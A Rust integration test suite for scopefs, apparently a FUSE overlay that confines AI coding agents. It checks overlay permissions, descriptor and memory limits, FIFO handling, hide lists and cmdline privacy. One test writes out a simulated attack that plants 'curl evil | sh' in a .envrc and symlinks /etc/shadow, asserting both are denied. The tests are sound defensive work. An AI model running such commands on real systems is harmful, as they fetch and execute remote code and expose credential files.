//! Faults an attack run and a fault run found, each shown fixed through the binary and a real
//! mount: the overlay out of other users' reach, refused operations that change nothing,
//! descriptors, memory of `diff --patch`, overlay files of the wrong type, large hide lists,
//! the daemon's command line and absences past their record. They need root and /dev/fuse and
//! fail loudly without them.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

mod common;

use std::ffi::CString;
use std::fs;
use std::io::{self, Write};
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use common::*;

/// How long a command that must not hang may take.
const QUICK: Duration = Duration::from_secs(30);

fn mode_of(path: &Path) -> u32 {
    fs::symlink_metadata(path)
        .unwrap_or_else(|e| panic!("lstat {}: {e}", path.display()))
        .mode()
        & 0o7777
}

fn chmod(path: &Path, mode: u32) {
    fs::set_permissions(path, fs::Permissions::from_mode(mode))
        .unwrap_or_else(|e| panic!("chmod {mode:o} {}: {e}", path.display()));
}

/// Runs `script` with `sh -c` as uid/gid 65534 (nobody).
fn sh_as_nobody(script: &str) -> Outcome {
    let mut cmd = Command::new("sh");
    cmd.arg("-c")
        .arg(script)
        .uid(65534)
        .gid(65534)
        .env("LC_ALL", "C");
    run_with_timeout(cmd, QUICK)
}

fn mkfifo(path: &Path) {
    let c = CString::new(path.as_os_str().as_bytes()).unwrap();
    // SAFETY: `c` is a valid NUL-terminated path.
    let rc = unsafe { libc::mkfifo(c.as_ptr(), 0o600) };
    assert_eq!(
        rc,
        0,
        "mkfifo {}: {}",
        path.display(),
        io::Error::last_os_error()
    );
}

/// A mount started by hand (so its process can be given limits). Dropping it unmounts with
/// `scopefs umount` and fails the test when that fails, hangs or leaves the daemon running, as
/// the common `Mounted` guard does; whatever happens the mount is cleared.
struct HandMount {
    mnt: PathBuf,
    pid: i32,
}

impl HandMount {
    fn start(mut cmd: Command, mnt: &Path) -> HandMount {
        let desc = format!("{cmd:?}");
        let out = run_with_timeout(
            {
                cmd.arg(mnt);
                cmd
            },
            QUICK,
        );
        if !out.status.success() {
            cleanup_mount(mnt, None);
            panic!("{desc} failed with {}\nstderr:\n{}", out.status, out.stderr);
        }
        let entry = mounts_at(mnt)
            .pop()
            .unwrap_or_else(|| panic!("{desc} exited 0 but nothing is mounted"));
        HandMount {
            mnt: mnt.to_path_buf(),
            pid: daemon_pid(&entry),
        }
    }
}

impl Drop for HandMount {
    fn drop(&mut self) {
        if std::thread::panicking() {
            cleanup_mount(&self.mnt, Some(self.pid));
            return;
        }
        if let Err(problem) = unmount_checked(&self.mnt, self.pid) {
            cleanup_mount(&self.mnt, Some(self.pid));
            panic!("{problem}");
        }
    }
}

/// Gives `cmd`, once forked, `resource`'s soft limit `soft` (the hard limit is kept).
fn with_soft_limit(cmd: &mut Command, resource: libc::__rlimit_resource_t, soft: u64) {
    // SAFETY: the hook only calls getrlimit and setrlimit on a local struct between fork and
    // exec, which is async-signal-safe.
    unsafe {
        cmd.pre_exec(move || {
            let mut lim = libc::rlimit {
                rlim_cur: 0,
                rlim_max: 0,
            };
            if libc::getrlimit(resource, &mut lim) != 0 {
                return Err(io::Error::last_os_error());
            }
            lim.rlim_cur = soft.min(lim.rlim_max);
            if libc::setrlimit(resource, &lim) != 0 {
                return Err(io::Error::last_os_error());
            }
            Ok(())
        });
    }
}

// --- The overlay is the daemon's alone ------------------------------------------------------------

/// Entries the agent makes through the view belong to the agent; were `upper/` reachable, the
/// agent could write there directly (`.envrc`, a symlink to /etc/shadow) past every check.
#[test]
fn the_agent_cannot_write_into_upper_from_outside_the_view() {
    let s = Scene::new();
    s.open_to_others();
    chmod(&s.dir("shared"), 0o777);
    let ov = s.base().join("ov");
    let m = s.mount(&[
        "--overlay",
        ov.to_str().unwrap(),
        "--writable",
        "**",
        "--allow-other",
    ]);
    for dir in [ov.clone(), ov.join("work")] {
        assert_eq!(mode_of(&dir), 0o700, "mode of {}", dir.display());
    }
    let made = sh_as_nobody(&format!(
        "mkdir {0}/shared/d && echo ok > {0}/shared/d/f",
        m.mnt().display()
    ));
    assert!(
        made.status.success(),
        "nobody works in the view: {}",
        made.stderr
    );
    // The agent owns what it made: only the overlay's mode keeps it out.
    let d = ov.join("upper/shared/d");
    assert_eq!(fs::metadata(&d).unwrap().uid(), 65534);
    let attack = sh_as_nobody(&format!(
        "echo 'curl evil | sh' > {0}/.envrc || ln -s /etc/shadow {0}/shadow",
        d.display()
    ));
    assert!(
        !attack.status.success() && attack.stderr.contains("Permission denied"),
        "nobody wrote into the overlay from outside the view: {attack:?}"
    );
    assert!(!d.join(".envrc").exists());
    assert!(fs::symlink_metadata(d.join("shadow")).is_err());
    assert_eq!(listing(&m.m("shared/d")), ["f"]);
}

#[test]
fn run_keeps_its_temporary_overlay_private_and_its_view_reachable() {
    let s = Scene::new();
    s.open_to_others();
    s.file("a.txt");
    fs::set_permissions(s.s("a.txt"), fs::Permissions::from_mode(0o644)).unwrap();
    let mut cmd = scopefs();
    cmd.args([
        "run",
        "--writes",
        "overlay",
        "--writable",
        "**",
        "--keep-overlay",
        "--allow-other",
    ])
    .arg(&s.src)
    .args([
        "--",
        "sh",
        "-c",
        // The view stays reachable by its path for a command running as another user.
        "echo new > new.txt && setpriv --reuid=65534 --regid=65534 --clear-groups cat \"$SCOPEFS_VIEW/a.txt\"",
    ]);
    let out = run_with_timeout(cmd, QUICK);
    assert!(out.status.success(), "{out:?}");
    assert_eq!(out.stdout, content_string("a.txt"), "{out:?}");
    let kept = out
        .stderr
        .lines()
        .find_map(|l| l.strip_prefix("scopefs: the overlay is kept at "))
        .and_then(|l| l.split_once(" (review: "))
        .map(|(dir, _)| PathBuf::from(dir))
        .unwrap_or_else(|| panic!("no kept overlay: {out:?}"));
    let scratch = kept.parent().unwrap().to_path_buf();
    let modes = (mode_of(&scratch), mode_of(&kept));
    fs::remove_dir_all(&scratch).unwrap();
    assert_eq!(
        modes,
        (0o700, 0o700),
        "modes of {} and its overlay",
        scratch.display()
    );
}

#[test]
fn an_overlay_other_users_can_enter_or_change_is_refused() {
    let s = Scene::new();
    s.file("a.txt");
    let ov = s.base().join("ov");
    {
        let m = s.mount(&["--overlay", ov.to_str().unwrap(), "--writable", "**"]);
        fs::write(m.m("a.txt"), "changed\n").unwrap();
    }
    let mount = |ov: &Path| {
        let mut cmd = scopefs();
        cmd.arg("mount")
            .arg("--overlay")
            .arg(ov)
            .arg(&s.src)
            .arg(&s.mnt);
        let out = run_with_timeout(cmd, QUICK);
        assert_not_mounted(&s.mnt, "after a refused mount");
        out
    };
    chmod(&ov, 0o755);
    let out = mount(&ov);
    assert_eq!(out.code(), Some(2), "{out:?}");
    let line = out.stderr.lines().next().unwrap_or_default();
    assert!(
        line.contains("can be entered by other users (mode 0755)")
            && line.contains(&format!("then `chmod 700 {}`", ov.display())),
        "{line}"
    );
    // apply copies what the overlay holds into SOURCE: not from an overlay others could change.
    let mut apply = scopefs();
    apply.arg("apply").arg(&ov);
    let out = run_with_timeout(apply, QUICK);
    assert_eq!(out.code(), Some(2), "{out:?}");
    assert!(
        out.stderr.contains("can be entered by other users"),
        "{out:?}"
    );
    assert_eq!(
        fs::read_to_string(s.s("a.txt")).unwrap(),
        content_string("a.txt")
    );

    chmod(&ov, 0o700);
    std::os::unix::fs::chown(&ov, Some(65534), None).unwrap();
    let out = mount(&ov);
    assert_eq!(out.code(), Some(2), "{out:?}");
    assert!(out.stderr.contains("belongs to uid 65534"), "{out:?}");
    std::os::unix::fs::chown(&ov, Some(0), None).unwrap();

    // A directory others may write, not sticky: they could put an overlay of their own there.
    let shared = s.base().join("shared");
    fs::create_dir(&shared).unwrap();
    chmod(&shared, 0o777);
    let out = mount(&shared.join("ov"));
    assert_eq!(out.code(), Some(2), "{out:?}");
    assert!(out.stderr.contains("could rename it"), "{out:?}");

    let _m = s.mount(&["--overlay", ov.to_str().unwrap()]);
    assert_eq!(fs::read_to_string(s.m("a.txt")).unwrap(), "changed\n");
}

fn content_string(rel: &str) -> String {
    String::from_utf8(content_for(rel.as_ref())).unwrap()
}

// --- A refused operation changes nothing -------------------------------------------------------

/// A name of 252 to 255 bytes has no room for its whiteout (`.wh.` + name), so deleting or
/// renaming such a SOURCE entry is refused: before anything is changed.
#[test]
fn refused_removal_and_rename_of_long_names_change_nothing() {
    let s = Scene::new();
    let long = "l".repeat(255);
    let other = "o".repeat(253);
    s.file_with(&long, b"original\n");
    s.file_with(&other, b"two\n");
    let ov = s.base().join("ov");
    let args = ["--overlay", ov.to_str().unwrap(), "--writable", "**"];
    {
        let m = s.mount(&args);
        let mut f = fs::OpenOptions::new()
            .append(true)
            .open(m.m(&long))
            .unwrap();
        f.write_all(b"edit\n").unwrap();
        drop(f);
        assert_errno(
            fs::remove_file(m.m(&long)),
            libc::ENAMETOOLONG,
            "rm of a 255-byte name",
        );
        assert_eq!(fs::read(m.m(&long)).unwrap(), b"original\nedit\n");
        assert_errno(
            fs::rename(m.m(&other), m.m("short")),
            libc::ENAMETOOLONG,
            "mv of a 253-byte name",
        );
        assert!(
            fs::symlink_metadata(m.m("short")).is_err(),
            "short appeared"
        );
        assert_eq!(fs::read(m.m(&other)).unwrap(), b"two\n");
    }
    let mut diff = scopefs();
    diff.arg("diff").arg(&ov);
    let out = run_with_timeout(diff, QUICK);
    assert!(out.status.success(), "{out:?}");
    assert_eq!(out.stdout, format!("M {long}\n"));
    let m = s.mount(&args);
    assert_eq!(fs::read(m.m(&long)).unwrap(), b"original\nedit\n");
    assert_eq!(fs::read(m.m(&other)).unwrap(), b"two\n");
    assert!(fs::symlink_metadata(m.m("short")).is_err());
}

// --- Descriptors ---------------------------------------------------------------------------------

const HELD: usize = 1_500;

/// Started from a shell with the usual soft limit of 1,024 descriptors, the daemon raises its
/// own to the hard limit: one process holding 1,500 files through the view leaves room for
/// everyone else's opens.
#[test]
fn one_process_holding_many_files_leaves_the_others_room() {
    // This process needs room for its own 1,500 descriptors.
    let mut lim = libc::rlimit {
        rlim_cur: 0,
        rlim_max: 0,
    };
    // SAFETY: getrlimit and setrlimit read and write only the struct passed.
    unsafe {
        assert_eq!(libc::getrlimit(libc::RLIMIT_NOFILE, &mut lim), 0);
        assert!(
            lim.rlim_max >= 4_096,
            "this test needs a hard descriptor limit of 4,096 or more, not {}",
            lim.rlim_max
        );
        lim.rlim_cur = lim.rlim_max;
        assert_eq!(libc::setrlimit(libc::RLIMIT_NOFILE, &lim), 0);
    }
    let s = Scene::new();
    for i in 0..HELD {
        s.file_with(format!("f{i:04}"), b"x");
    }
    s.file_with("other.txt", b"other\n");
    let ov = s.base().join("ov");
    let mut cmd = scopefs();
    cmd.arg("mount")
        .args(["--overlay", ov.to_str().unwrap(), "--writable", "**"])
        .arg(&s.src);
    with_soft_limit(&mut cmd, libc::RLIMIT_NOFILE, 1_024);
    let m = HandMount::start(cmd, &s.mnt);
    let daemon_limit = fs::read_to_string(format!("/proc/{}/limits", m.pid)).unwrap();
    let open_files = daemon_limit
        .lines()
        .find(|l| l.starts_with("Max open files"))
        .unwrap()
        .to_string();
    let mut held = Vec::with_capacity(HELD);
    for i in 0..HELD {
        let path = s.m(format!("f{i:04}"));
        match fs::File::open(&path) {
            Ok(f) => held.push(f),
            Err(e) => panic!(
                "open number {} through the view failed: {e} (daemon: {open_files})",
                i + 1
            ),
        }
    }
    assert!(
        fd_count(m.pid).unwrap() > HELD,
        "the opens reached the daemon"
    );
    let mut cat = Command::new("cat");
    cat.arg(s.m("other.txt"));
    let out = run_with_timeout(cat, QUICK);
    assert!(
        out.status.success() && out.stdout == "other\n",
        "another process could not read while {HELD} files were held: {out:?} (daemon: {open_files})"
    );
    drop(held);
}

// --- diff --patch in bounded memory ------------------------------------------------------------

/// Runs `cmd` to completion and returns what it left and its peak resident memory in KiB
/// (`wait4`'s own accounting of that one child).
fn run_measuring(mut cmd: Command, timeout: Duration) -> (Outcome, i64) {
    let cap = Capture::new();
    cap.attach(&mut cmd);
    // Reaped below by wait4, which also reports its peak memory.
    #[allow(clippy::zombie_processes)]
    let child = cmd.spawn().unwrap();
    let pid = child.id() as libc::pid_t;
    let deadline = Instant::now() + timeout;
    loop {
        let mut status = 0;
        // SAFETY: an all-zero rusage is a valid value for the kernel to overwrite.
        let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
        // SAFETY: `status` and `usage` are valid out-pointers; `pid` is our own child.
        let rc = unsafe { libc::wait4(pid, &mut status, libc::WNOHANG, &mut usage) };
        assert!(rc >= 0, "wait4: {}", io::Error::last_os_error());
        if rc == pid {
            let status = std::os::unix::process::ExitStatusExt::from_raw(status);
            let outcome = Outcome {
                status,
                stdout: cap.stdout(),
                stderr: cap.stderr(),
            };
            return (outcome, usage.ru_maxrss);
        }
        if Instant::now() > deadline {
            // SAFETY: kill has no memory effects.
            unsafe { libc::kill(pid, libc::SIGKILL) };
            panic!("{cmd:?} did not finish within {timeout:?}");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// A 5 GiB sparse file made through the view, and a text file past the limit of text patches:
/// each gets its note, and `diff --patch` stays within a few MiB (it once read both whole).
#[test]
fn diff_patch_reports_large_files_in_bounded_memory() {
    let s = Scene::new();
    s.file_with("edit.txt", b"one\ntwo\n");
    let ov = s.base().join("ov");
    {
        let m = s.mount(&["--overlay", ov.to_str().unwrap(), "--writable", "**"]);
        fs::File::create(m.m("big"))
            .unwrap()
            .set_len(5 << 30)
            .unwrap();
        let text: String = (0..600_000).map(|i| format!("line {i}\n")).collect();
        assert!(text.len() > 4 << 20);
        fs::write(m.m("text.txt"), &text).unwrap();
        fs::write(m.m("edit.txt"), "one\nTWO\n").unwrap();
    }
    for json in [false, true] {
        let mut cmd = scopefs();
        cmd.arg("diff").arg("--patch").arg(&ov);
        if json {
            cmd.arg("--json");
        }
        // Under a memory limit a whole-file read once failed silently: the patch went missing.
        with_soft_limit(&mut cmd, libc::RLIMIT_AS, 1 << 30);
        let (out, peak_kib) = run_measuring(cmd, Duration::from_secs(120));
        assert!(out.status.success(), "{out:?}");
        let notes = [
            "Binary files /dev/null and b/big differ".to_string(),
            "File too large for a text patch: /dev/null (0 bytes) and b/text.txt (".to_string(),
            "-two\\n+TWO".to_string(),
        ];
        let shown = if json {
            out.stdout.clone()
        } else {
            out.stdout.replace('\n', "\\n")
        };
        for note in &notes {
            assert!(
                shown.contains(note.as_str()),
                "json {json}: no {note:?} in {}",
                out.stdout
            );
        }
        assert!(
            peak_kib < 64 * 1024,
            "diff --patch (json {json}) peaked at {peak_kib} KiB"
        );
        println!("diff --patch (json {json}) of a 5 GiB file: peak RSS {peak_kib} KiB");
    }
}

// --- Overlay files of the wrong type ----------------------------------------------------------

/// A FIFO (or a symlink) where the overlay keeps `origins`, `lock` or `overlay.toml` once made
/// `diff`, `apply`, `discard` and `mount` block forever; now each fails at once and names it.
#[test]
fn overlay_files_of_the_wrong_type_fail_at_once_with_their_name() {
    let s = Scene::new();
    s.file("a.txt");
    let ov = s.base().join("ov");
    {
        let m = s.mount(&["--overlay", ov.to_str().unwrap(), "--writable", "**"]);
        fs::write(m.m("a.txt"), "changed\n").unwrap();
    }
    for name in ["origins", "lock", "overlay.toml"] {
        let path = ov.join(name);
        let aside = ov.join("aside");
        fs::rename(&path, &aside).unwrap();
        mkfifo(&path);
        let commands: [&[&str]; 4] = [&["diff"], &["apply"], &["discard"], &["mount"]];
        for args in commands {
            // `diff` only reads: it never takes the lock, so it works (without waiting on it).
            let works = name == "lock" && args == ["diff"];
            let mut cmd = scopefs();
            cmd.args(args);
            if args == ["mount"] {
                cmd.arg("--overlay").arg(&ov).arg(&s.src).arg(&s.mnt);
            } else {
                cmd.arg(&ov);
            }
            let started = Instant::now();
            let out = run_with_timeout(cmd, QUICK);
            assert_not_mounted(&s.mnt, "after a refused mount");
            if works {
                assert_eq!(
                    out.stdout, "M a.txt\n",
                    "{args:?} with {name} a FIFO: {out:?}"
                );
                continue;
            }
            assert_eq!(out.code(), Some(2), "{args:?} with {name} a FIFO: {out:?}");
            assert!(
                out.stderr.contains(&format!(
                    "{} is a FIFO, not the regular file",
                    path.display()
                )),
                "{args:?} with {name} a FIFO: {}",
                out.stderr
            );
            assert!(
                started.elapsed() < Duration::from_secs(10),
                "{args:?} took {:?}",
                started.elapsed()
            );
        }
        fs::remove_file(&path).unwrap();
        fs::rename(&aside, &path).unwrap();
    }
    let _m = s.mount(&["--overlay", ov.to_str().unwrap()]);
    assert_eq!(fs::read_to_string(s.m("a.txt")).unwrap(), "changed\n");
}

// --- Large hide lists --------------------------------------------------------------------------

/// 10,000 hide patterns were refused with "preset compiled: … error building NFA", blaming a
/// preset; 7,500 worked. They compile, hide what they name and keep their lines.
#[test]
fn ten_thousand_hide_patterns_compile_and_hide() {
    let s = Scene::new();
    let mut policy = String::from("[view]\nhide = [\n");
    for i in 0..10_000 {
        policy.push_str(&format!("  \"private{i:05}/\",\n"));
    }
    policy.push_str("]\n");
    let file = s.policy(&policy);
    s.file("private00000/a.txt");
    s.file("private09999/a.txt");
    s.file("public/a.txt");

    let mut check = scopefs();
    check.arg("check").arg("-c").arg(&file);
    let out = run_with_timeout(check, QUICK);
    assert!(out.status.success(), "{out:?}");

    let mut explain = scopefs();
    explain
        .arg("explain")
        .arg("-c")
        .arg(&file)
        .arg(&s.src)
        .arg("private09999/a.txt");
    let out = run_with_timeout(explain, QUICK);
    assert!(out.status.success(), "{out:?}");
    assert_eq!(
        out.stdout,
        format!(
            "private09999/a.txt: hidden ({}:10002: \"private09999/\")\n",
            file.display()
        )
    );

    let m = s.mount(&["-c", file.to_str().unwrap()]);
    assert_listing(m.mnt(), &["public"]);
    assert_hidden(m.mnt(), "private09999/a.txt");
    assert_hidden(m.mnt(), "private00000");
}

// --- What the daemon shows of itself -----------------------------------------------------------

/// `/proc/PID/cmdline` is readable by every user: it must not carry the policy's flags.
#[test]
fn the_command_line_does_not_show_the_policy() {
    let s = Scene::new();
    s.file("a.txt");
    let m = s.mount(&["--hide", "private-plans/", "--cache", "never"]);
    let cmdline = fs::read(format!("/proc/{}/cmdline", m.pid)).unwrap();
    let shown = String::from_utf8_lossy(&cmdline).replace('\0', " ");
    assert!(
        !shown.contains("private-plans"),
        "the daemon shows {shown:?}"
    );
    assert_eq!(
        fs::read(m.m("a.txt")).unwrap(),
        content_for("a.txt".as_ref())
    );
    assert_hidden(m.mnt(), "private-plans");
    drop(m);

    let mut run = scopefs();
    run.args(["run", "--hide", "private-plans/"])
        .arg(&s.src)
        .args(["--", "sh", "-c", "tr '\\0' ' ' < /proc/$PPID/cmdline"]);
    let out = run_with_timeout(run, QUICK);
    assert!(out.status.success(), "{out:?}");
    // The command's parent is run's contained init, a scopefs of its own.
    assert!(out.stdout.contains("internal-contain"), "{out:?}");
    assert!(
        !out.stdout.contains("private-plans"),
        "run shows {:?}",
        out.stdout
    );
}

/// Past the 100,000 absences recorded for a policy reload, absences were no longer cached at
/// all, so a process could probe one name again and again and time the daemon; they are still
/// cached, for a second. Seen with `--cache always`: a name created in SOURCE right after a
/// probe stays absent in the view for that second, then appears.
#[test]
fn absences_past_the_record_are_still_cached_briefly() {
    let s = Scene::new();
    s.dir("probe");
    let m = s.mount(&["--cache", "always"]);
    let dir = m.m("probe");
    let started = Instant::now();
    for i in 0..100_100 {
        assert_errno(
            fs::symlink_metadata(dir.join(format!("missing{i}"))),
            libc::ENOENT,
            "a missing name",
        );
    }
    let spent = started.elapsed();
    // Probe, create underneath, look again: within the second the absence is cached for, the
    // view must still say absent. Under load the steps may take longer: try again with a new
    // name, a bounded number of times.
    let mut seen_cached = false;
    for attempt in 0..20 {
        let name = format!("late{attempt}");
        let probed = Instant::now();
        assert_errno(
            fs::symlink_metadata(dir.join(&name)),
            libc::ENOENT,
            "a new name",
        );
        s.file(format!("probe/{name}"));
        let still_absent = fs::symlink_metadata(dir.join(&name)).is_err();
        if probed.elapsed() > Duration::from_millis(500) {
            continue;
        }
        assert!(still_absent, "the absence of {name} was not cached");
        seen_cached = true;
        // Briefly: the name appears once the second is over.
        let deadline = Instant::now() + Duration::from_secs(30);
        while fs::symlink_metadata(dir.join(&name)).is_err() {
            assert!(Instant::now() < deadline, "{name} stayed absent for 30 s");
            std::thread::sleep(Duration::from_millis(50));
        }
        break;
    }
    assert!(seen_cached, "no probe finished within 0.5 s in 20 attempts");
    println!("100,100 missing names probed in {spent:.1?}");
}

// --- The Kubernetes example of docs/recipes.md ---------------------------------------------------

fn example(rel: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("examples")
        .join(rel)
}

/// The entrypoint as the Kubernetes example of docs/recipes.md runs it: the agent as `nobody`, in
/// place, the review volume (mode 0777, as some storage makes a volume's root) mounted beneath a
/// directory only root can enter. The agent's writes through the view reach the overlay; the agent
/// itself can neither reach the overlay nor move it. Mounted where the agent can reach it, the same
/// volume is refused.
#[test]
fn the_kubernetes_example_keeps_the_overlay_out_of_the_agents_reach() {
    let s = Scene::new();
    let base = s.base();
    chmod(&base, 0o755);
    let tmp = base.join("tmp");
    fs::create_dir(&tmp).unwrap();
    let private = base.join("private");
    fs::create_dir(&private).unwrap();
    chmod(&private, 0o700);
    let workspace = private.join("workspace");
    let copied = Command::new("cp")
        .arg("-a")
        .arg(example("sample-project"))
        .arg(&workspace)
        .status()
        .unwrap();
    assert!(copied.success(), "cp -a sample-project");
    chmod(&workspace, 0o755);
    chmod(&workspace.join("src"), 0o777);
    let root_only = base.join("root");
    fs::create_dir_all(root_only.join("review")).unwrap();
    chmod(&root_only, 0o700);
    chmod(&root_only.join("review"), 0o777);
    let overlay = root_only.join("review/overlay");
    let out = base.join("out");
    fs::create_dir(&out).unwrap();
    chmod(&out, 0o777);
    let entrypoint = |overlay: &Path, script: &str| {
        let mut cmd = Command::new(example("docker/entrypoint.sh"));
        cmd.env_remove("RUST_LOG")
            .env("TMPDIR", &tmp)
            .env("SCOPEFS_BIN", common::BIN)
            .env("SCOPEFS_SOURCE", &workspace)
            .env("SCOPEFS_IN_PLACE", "1")
            .env("SCOPEFS_AGENT_USER", "nobody")
            .env("SCOPEFS_POLICY", example("policies/coding-agent.toml"))
            .env("SCOPEFS_OVERLAY", overlay)
            .current_dir(&base)
            .args(["sh", "-c", script]);
        run_with_timeout(cmd, QUICK)
    };
    let script = format!(
        "echo 'fn added() {{}}' > src/added.rs; \
         (echo evil > '{ov}/upper/src/evil.rs') 2> '{o}/write-err'; \
         (ls '{ov}') 2> '{o}/ls-err'; \
         (mv '{ov}' '{ov}.moved') 2> '{o}/mv-err'; exit 0",
        ov = overlay.display(),
        o = out.display()
    );
    let outcome = entrypoint(&overlay, &script);
    assert!(outcome.status.success(), "{outcome:?}");
    for name in ["write-err", "ls-err", "mv-err"] {
        let err = fs::read_to_string(out.join(name)).unwrap();
        assert!(err.contains("Permission denied"), "{name}: {err}");
    }
    assert_eq!(mode_of(&overlay), 0o700);
    assert!(!overlay.join("upper/src/evil.rs").exists());
    let mut diff = scopefs();
    diff.arg("diff").arg(&overlay);
    let listed = run_with_timeout(diff, QUICK);
    assert_eq!(listed.stdout, "A src/added.rs\n", "{listed:?}");
    assert!(!workspace.join("src/added.rs").exists());

    // The same volume mounted where the agent can reach it: refused, nothing mounted.
    let reachable = base.join("review");
    fs::create_dir(&reachable).unwrap();
    chmod(&reachable, 0o777);
    let outcome = entrypoint(&reachable.join("overlay"), "exit 0");
    assert_eq!(outcome.code(), Some(2), "{outcome:?}");
    assert!(outcome.stderr.contains("could rename it"), "{outcome:?}");
    assert!(!reachable.join("overlay").exists());
    assert_not_mounted(&workspace, "after a refused entrypoint");
}
